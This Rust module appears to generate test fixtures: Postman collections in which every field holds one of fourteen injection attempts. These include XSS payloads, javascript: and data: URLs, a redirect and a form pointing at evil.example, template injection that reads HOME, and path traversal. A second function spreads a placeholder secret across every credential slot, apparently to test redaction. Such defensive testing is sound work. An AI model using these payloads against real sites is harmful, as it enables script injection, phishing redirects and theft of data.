//! Collections that attack: each of their texts is an attempt.

use serde_json::{Value, json};

/// What a text can try. Each sets `pwned` where it runs.
pub const ATTEMPTS: [&str; 14] = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=\"window.pwned=1\">",
    "\"><svg onload=window.pwned=1>",
    "'><iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "</title></style></textarea></pre></code><script>pwned=1</script>",
    "[x](javascript:pwned=1) <a href=\"javascript:pwned=1\">y</a> <a href='data:text/html,<script>pwned=1</script>'>z</a>",
    "<base href=\"//evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example/pwned\">",
    "--><!--<script>pwned=1//--></script>]]>",
    "{{pwned}} {% raw %} {# pwned #} ${pwned} {{ get_env(name=\"HOME\") }}",
    "a\u{202e}b\u{2028}c\u{0}d\u{1b}e\u{85}pwned",
    "<b style=\"position:fixed;inset:0\" id=content class=top>pwned</b><form action=//evil.example><input name=pwned autofocus>",
    "../../../pwned",
    "![pwned](https://evil.example/pixel.png) <https://evil.example/>",
    "*/ \\\"; alert('pwned'); /* ` ${alert('pwned')} </script",
];

/// A collection in which every text that reaches a page is such an attempt.
pub fn collection() -> String {
    let folders: Vec<Value> =
        ATTEMPTS.iter().enumerate().map(|(n, text)| folder(n, text)).collect();
    json!({
        "info": {
            "name": ATTEMPTS[0],
            "description": ATTEMPTS.join("\n\n"),
            "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json",
        },
        "variable": ATTEMPTS.map(|text| json!({ "key": text, "value": text, "description": text })),
        "item": folders,
    })
    .to_string()
}

fn folder(n: usize, text: &str) -> Value {
    let body = json!({ text: text, "list": [{ text: text }], "null": null }).to_string();
    let body = match n % 5 {
        0 => json!({ "mode": "raw", "raw": body, "options": { "raw": { "language": "json" } } }),
        1 => {
            json!({ "mode": "urlencoded", "urlencoded": [{ "key": text, "value": text, "description": text }] })
        }
        2 => {
            json!({ "mode": "formdata", "formdata": [{ "key": text, "value": text, "description": text, "type": "text" }, { "key": text, "src": text, "type": "file" }] })
        }
        3 => json!({ "mode": "graphql", "graphql": { "query": text, "variables": text } }),
        _ => json!({ "mode": "raw", "raw": text }),
    };
    let kind = ["text/markdown", "text/html", "text/plain"][n % 3];
    let auth = match n % 4 {
        0 => {
            json!({ "type": "basic", "basic": [{ "key": "username", "value": text }, { "key": "password", "value": text }] })
        }
        1 => {
            json!({ "type": "apikey", "apikey": [{ "key": "key", "value": text }, { "key": "value", "value": text }] })
        }
        2 => json!({ "type": "oauth1", "oauth1": [{ "key": text, "value": text }] }),
        _ => json!({ "type": text }),
    };
    let pairs = json!([{ "key": text, "value": text, "description": text }, { "key": text, "value": text, "disabled": true }]);
    json!({
        "name": text,
        "description": { "content": text, "type": kind },
        "item": [{
            "name": text,
            "request": {
                "method": text,
                "description": text,
                "auth": auth,
                "header": pairs,
                "body": body,
                "url": {
                    "protocol": "https",
                    "host": [text],
                    "path": [text, ":pwned", format!(":{text}")],
                    "query": pairs,
                    "hash": text,
                    "variable": [{ "key": "pwned", "value": text, "description": text }],
                },
            },
            "response": [
                { "name": text, "status": text, "code": 200, "_postman_previewlanguage": "json",
                  "header": pairs, "body": json!([{ text: text, "n": { text: 1 } }]).to_string() },
                { "name": text, "status": text, "code": 404, "_postman_previewlanguage": "html", "header": pairs, "body": text },
                { "name": text, "status": text, "_postman_previewlanguage": text, "body": text },
            ],
        }],
    })
}

/// A collection that holds this secret wherever a collection can hold one.
pub fn with_credentials(secret: &str) -> String {
    let mut number = 0;
    let mut next = || {
        number += 1;
        format!("{secret}-{number}")
    };
    let auths = [
        json!({ "type": "bearer", "bearer": [{ "key": "token", "value": next() }] }),
        json!({ "type": "basic", "basic": [{ "key": "username", "value": "me" }, { "key": "password", "value": next() }] }),
        json!({ "type": "apikey", "apikey": [{ "key": "key", "value": "X-Thing" }, { "key": "value", "value": next() }] }),
        json!({ "type": "apikey", "apikey": [{ "key": "key", "value": "k" }, { "key": "in", "value": "query" }, { "key": "value", "value": next() }] }),
        json!({ "type": "oauth2", "oauth2": [{ "key": "accessToken", "value": next() }, { "key": "clientSecret", "value": next() }] }),
        json!({ "type": "oauth1", "oauth1": { "consumerKey": "c", "consumerSecret": next(), "token": next(), "tokenSecret": next() } }),
        json!({ "type": "awsv4", "awsv4": [{ "key": "accessKey", "value": next() }, { "key": "secretKey", "value": next() }, { "key": "sessionToken", "value": next() }] }),
        json!({ "type": "digest", "digest": [{ "key": "username", "value": "me" }, { "key": "password", "value": next() }] }),
        json!({ "type": "hawk", "hawk": [{ "key": "authId", "value": "id" }, { "key": "authKey", "value": next() }] }),
    ];
    let headers = |token: &str| {
        json!([
            { "key": "Authorization", "value": format!("Bearer {token}") },
            { "key": "X-Api-Key", "value": token },
            { "key": "Cookie", "value": format!("session={token}") },
        ])
    };
    let items: Vec<Value> = auths
        .iter()
        .enumerate()
        .map(|(n, auth)| {
            let token = next();
            let request = json!({
                "method": "POST",
                "auth": auth,
                "header": if n % 2 == 0 { headers(&token) } else { json!([]) },
                "url": format!("https://me:{token}@api.example.com/x?api_key={token}&a=1"),
            });
            json!({
                "name": format!("Item {n}"),
                "request": request,
                "response": [{
                    "name": "Echo",
                    "code": 200,
                    "originalRequest": request,
                    "header": [{ "key": "Set-Cookie", "value": format!("s={token}") }],
                    "body": json!({ "seen": { "authorization": token } }).to_string(),
                }],
            })
        })
        .collect();
    json!({
        "info": { "name": "Credentials" },
        "auth": { "type": "bearer", "bearer": [{ "key": "token", "value": next() }] },
        "variable": [
            { "key": "apiKey", "value": next() },
            { "key": "thing", "value": next(), "type": "secret" },
        ],
        "item": items,
    })
    .to_string()
}
